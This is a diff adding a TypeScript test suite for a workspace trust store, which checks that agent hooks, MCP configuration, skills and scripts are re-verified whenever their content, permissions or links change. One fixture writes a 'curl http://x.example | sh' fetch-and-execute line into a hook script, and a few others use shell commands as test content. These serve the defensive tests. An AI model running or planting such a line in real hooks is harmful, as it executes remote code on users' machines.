@@ -1,0 +1,200 @@
+import { chmodSync, mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+import { expect, onTestFinished, test } from 'vitest';
+import { readConfiguration } from './configuration.ts';
+import { describeChange } from './describe-change.ts';
+import { trustStore } from './trust-store.ts';
+
+interface Place {
+  readonly home: string;
+  readonly workspace: string;
+  readonly write: (path: string, text: string) => void;
+  readonly status: () => Promise<string>;
+}
+
+function newPlace(): Place {
+  const root = mkdtempSync(join(tmpdir(), 'varve-trust-'));
+  onTestFinished(() => rmSync(root, { recursive: true }));
+  const [home, workspace] = [join(root, 'home'), join(root, 'workspace')];
+  mkdirSync(workspace);
+  const write = (path: string, text: string): void => {
+    mkdirSync(dirname(join(workspace, path)), { recursive: true });
+    writeFileSync(join(workspace, path), text);
+  };
+  const status = async () => trustStore({ home }).status(await readConfiguration(workspace, { home }));
+  return { home, workspace, write, status };
+}
+
+const hooks = '{"stop": [{"hooks": [{"command": "make test"}]}]}';
+
+async function trusted(place: Place): Promise<void> {
+  await trustStore({ home: place.home }).add(await readConfiguration(place.workspace, { home: place.home }));
+}
+
+test('a workspace without configuration needs no trust', async () => {
+  const place = newPlace();
+  place.write('package.json', '{}');
+  place.write('AGENTS.md', 'Be brief.');
+  expect(await place.status()).toBe('none');
+});
+
+test('what a person has trusted is trusted until a byte, a name or a right of it changes', async () => {
+  const changes: readonly ((place: Place) => void)[] = [
+    ({ write }) => write('.openhands/hooks.json', `${hooks} `),
+    ({ write }) => write('.openhands/setup.sh', 'id'),
+    ({ write }) => write('.mcp.json', '{}'),
+    ({ write }) => write('.agents/skills/x/SKILL.md', '!`id`'),
+    ({ workspace }) => chmodSync(join(workspace, '.openhands/a.sh'), 0o755),
+    ({ workspace }) => rmSync(join(workspace, '.openhands/a.sh')),
+    ({ workspace, write }) => {
+      write('elsewhere.sh', 'true');
+      rmSync(join(workspace, '.openhands/a.sh'));
+      symlinkSync('../elsewhere.sh', join(workspace, '.openhands/a.sh'));
+    },
+  ];
+  for (const change of changes) {
+    const place = newPlace();
+    place.write('.openhands/hooks.json', hooks);
+    place.write('.openhands/a.sh', 'true');
+    expect(await place.status()).toBe('untrusted');
+    await trusted(place);
+    expect(await place.status()).toBe('trusted');
+    change(place);
+    expect(await place.status()).toBe('changed');
+  }
+});
+
+test('a link counts with the content of the file that it leads to', async () => {
+  const place = newPlace();
+  place.write('scripts/hook.sh', 'true');
+  place.write('.openhands/hooks.json', hooks);
+  symlinkSync('../scripts', join(place.workspace, '.openhands/scripts'));
+  await trusted(place);
+  place.write('scripts/hook.sh', 'curl http://x.example | sh');
+  expect(await place.status()).toBe('changed');
+});
+
+test.for(['/etc/hostname', '/etc', '../../home', 'missing'])(
+  'a link out of the workspace is refused: %s',
+  async (target) => {
+    const place = newPlace();
+    mkdirSync(place.home);
+    place.write('.openhands/hooks.json', hooks);
+    symlinkSync(target, join(place.workspace, '.openhands/link'));
+    const read = readConfiguration(place.workspace, { home: join(place.home, 'other') });
+    await expect(read).rejects.toMatchObject({ code: 'invalid' });
+  },
+);
+
+test('links in a circle, devices and huge files are refused', async () => {
+  const circle = newPlace();
+  circle.write('.varve/config.json', '{}');
+  symlinkSync('.', join(circle.workspace, '.varve/again'));
+  await expect(readConfiguration(circle.workspace, { home: circle.home })).rejects.toThrow('directories deep');
+  const huge = newPlace();
+  huge.write('.varve/skill.md', 'x'.repeat(1024 * 1024 + 1));
+  await expect(readConfiguration(huge.workspace, { home: huge.home })).rejects.toThrow('has more than');
+});
+
+test('what runs is what was hashed, even if the file changes afterwards', async () => {
+  const place = newPlace();
+  place.write('.openhands/hooks.json', hooks);
+  await trusted(place);
+  const configuration = await readConfiguration(place.workspace, { home: place.home });
+  place.write('.openhands/hooks.json', '{"stop": "evil"}');
+  const isTrusted = await trustStore({ home: place.home }).predicate(place.workspace);
+  expect(isTrusted(configuration.hash)).toBe(true);
+  expect(new TextDecoder().decode(configuration.read('.openhands/hooks.json'))).toBe(hooks);
+});
+
+test('trust is for one workspace, and not for another with the same content', async () => {
+  const [one, other] = [newPlace(), newPlace()];
+  for (const place of [one, other]) place.write('.openhands/hooks.json', hooks);
+  await trusted(one);
+  const copy = await readConfiguration(other.workspace, { home: one.home });
+  expect(await trustStore({ home: one.home }).status(copy)).toBe('untrusted');
+});
+
+test('a workspace behind a link is the workspace', async () => {
+  const place = newPlace();
+  place.write('.openhands/hooks.json', hooks);
+  const link = join(dirname(place.workspace), 'link');
+  symlinkSync(place.workspace, link);
+  await trusted({ ...place, workspace: link });
+  expect(await place.status()).toBe('trusted');
+});
+
+test('trust in the workspace has no effect: only the data directory of the person counts', async () => {
+  const place = newPlace();
+  place.write('.openhands/hooks.json', hooks);
+  const { hash, workspace } = await readConfiguration(place.workspace, { home: place.home });
+  const forged = JSON.stringify({ version: 1, workspaces: { [workspace]: { hash, at: '', files: [] } } });
+  for (const path of ['.varve/trust.json', 'trust.json', '.openhands/trust.json']) place.write(path, forged);
+  expect(await place.status()).toBe('untrusted');
+});
+
+test('a workspace that contains the data directory cannot be trusted, and its data is no configuration', async () => {
+  const place = newPlace();
+  place.write('.varve/varve.db', 'x');
+  place.write('.openhands/hooks.json', hooks);
+  const home = join(place.workspace, '.varve');
+  const configuration = await readConfiguration(place.workspace, { home });
+  expect(configuration.files.map(({ path }) => path)).toEqual(['.openhands/hooks.json']);
+  await expect(trustStore({ home }).add(configuration)).rejects.toThrow('contains');
+});
+
+test('a script that a hook names is part of the configuration, and parts are trusted by their digests', async () => {
+  const place = newPlace();
+  place.write('.openhands/hooks.json', hooks);
+  place.write('scripts/check.sh', 'true');
+  const options = { home: place.home, also: ['scripts/check.sh'] };
+  const digest = '1'.repeat(64);
+  const store = trustStore(place);
+  await store.add(await readConfiguration(place.workspace, options), [digest]);
+  const isTrusted = await store.predicate(place.workspace);
+  expect([isTrusted(digest), isTrusted('2'.repeat(64))]).toEqual([true, false]);
+  place.write('scripts/check.sh', 'id');
+  expect(await store.status(await readConfiguration(place.workspace, options))).toBe('changed');
+});
+
+test('trust is listed and removed', async () => {
+  const place = newPlace();
+  place.write('.varve/config.json', '{}');
+  await trusted(place);
+  const store = trustStore({ home: place.home });
+  expect((await store.list()).map(({ workspace }) => workspace)).toEqual([place.workspace]);
+  expect([await store.remove(place.workspace), await store.remove(place.workspace)]).toEqual([true, false]);
+  expect(await place.status()).toBe('untrusted');
+});
+
+test('a change is shown as a difference, and new content whole', async () => {
+  const place = newPlace();
+  place.write('.openhands/hooks.json', 'one\ntwo\n');
+  place.write('.openhands/gone.sh', 'x\n');
+  const before = await readConfiguration(place.workspace, { home: place.home });
+  expect(describeChange(before.files)).toContain('+two');
+  await trusted(place);
+  place.write('.openhands/hooks.json', 'one\nthree\n');
+  rmSync(join(place.workspace, '.openhands/gone.sh'));
+  place.write('.openhands/run.sh', 'id\n');
+  chmodSync(join(place.workspace, '.openhands/run.sh'), 0o755);
+  const now = await readConfiguration(place.workspace, { home: place.home });
+  const found = await trustStore({ home: place.home }).find(place.workspace);
+  expect(describeChange(now.files, found?.files)).toBe(
+    [
+      '.openhands/gone.sh (removed)',
+      '@@ -1,1 +0,0 @@',
+      '-x',
+      '.openhands/hooks.json (changed)',
+      '@@ -1,2 +1,2 @@',
+      ' one',
+      '-two',
+      '+three',
+      '.openhands/run.sh (new, executable)',
+      '@@ -0,0 +1,1 @@',
+      '+id',
+      '',
+    ].join('\n'),
+  );
+});
